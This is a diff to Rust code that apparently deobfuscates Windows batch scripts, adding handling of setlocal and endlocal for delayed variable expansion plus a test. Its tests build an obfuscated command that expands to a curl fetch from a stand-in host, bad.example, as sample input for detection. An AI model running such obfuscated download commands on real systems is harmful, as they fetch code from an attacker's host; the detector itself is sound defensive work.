@@ -5,7 +5,7 @@ use std::collections::{BTreeMap, HashMap};
 use crate::budget::Budget;
 use crate::limits::MAX_LAYER;
 use crate::peel::{Rewrite, Technique};
-use crate::script::{ENOUGH, joins_host, reveals};
+use crate::script::{ENOUGH, Hosts, not_shown};
 
 /// What every Windows has. Those that obfuscators cut letters from.
 const KNOWN: [(&str, &str); 8] = [
@@ -21,12 +21,6 @@ const KNOWN: [(&str, &str); 8] = [
 /// Characters of a variable's value.
 const MAX_VALUE: usize = 64 << 10;
 
-/// Whether variables between exclamation marks are put in from here on.
-fn delays(line: &str) -> bool {
-    let lower = line.to_ascii_lowercase();
-    lower.contains("enabledelayedexpansion") || lower.contains("/v:on")
-}
-
 #[derive(Default)]
 struct Run {
     is_delayed: bool,
@@ -38,7 +32,7 @@ struct Run {
 }
 
 pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
-    let lower = text.to_ascii_lowercase();
+    let (telling, mut hosts) = (not_shown(text), Hosts::default());
     let mut run = Run::default();
     let mut done = String::with_capacity(text.len());
     for line in text.split_inclusive('\n') {
@@ -51,8 +45,11 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
         let sets = plain.to_ascii_lowercase().contains("set ");
         let plain = if run.is_delayed && !sets { run.expand(&plain, '!', budget) } else { plain };
         run.assign(&plain);
-        run.is_delayed |= delays(line);
-        let is_new = run.weight < ENOUGH && plain != line && (reveals(&lower, &plain) || joins_host(text, &plain));
+        run.delay(&plain);
+        let is_new = run.weight < ENOUGH && plain != line && {
+            let lower = plain.to_ascii_lowercase();
+            telling.iter().any(|telling| lower.contains(telling)) || hosts.are_joined_in(text, &plain)
+        };
         run.weight += if is_new { ENOUGH } else { 0 };
         done.push_str(&plain);
     }
@@ -63,6 +60,20 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
 }
 
 impl Run {
+    /// Whether variables between exclamation marks are put in from here on.
+    fn delay(&mut self, line: &str) {
+        let lower = line.to_ascii_lowercase();
+        let command = lower.trim_start_matches(['@', ' ', '\t', '(']);
+        if command.starts_with("setlocal") && lower.contains("enabledelayedexpansion") || lower.contains("/v:on") {
+            self.is_delayed = true;
+        } else if command.starts_with("endlocal")
+            || command.starts_with("setlocal") && lower.contains("disabledelayedexpansion")
+        {
+            // What was before an outer `setlocal` is not kept: then nothing is put in.
+            self.is_delayed = false;
+        }
+    }
+
     fn count(&mut self, technique: Technique, weight: usize) {
         *self.steps.entry(technique).or_default() += 1;
         self.weight += weight;
@@ -316,6 +327,8 @@ mod tests {
         assert!(undone(&format!("{text}curl !a!!b!!c!\r\n")).ends_with("curl http://bad.example/x\r\n"));
         // Without it, they are texts; and what a line sets it may use.
         assert_eq!(undone(&format!("{}curl !a!!b!!c!\r\n", text.replace("Enable", "Disable"))), "");
+        let done = undone(&format!("{text}curl !a!!b!!c!\r\nendlocal\r\necho !b!\r\n"));
+        assert!(done.ends_with("endlocal\r\necho !b!\r\n"), "{done}");
         let done = undone(&format!("{text}curl !a!!b!!c!\r\nset a=x&curl !a!\r\n"));
         assert!(done.ends_with("set a=x&curl !a!\r\n"), "{done}");
     }
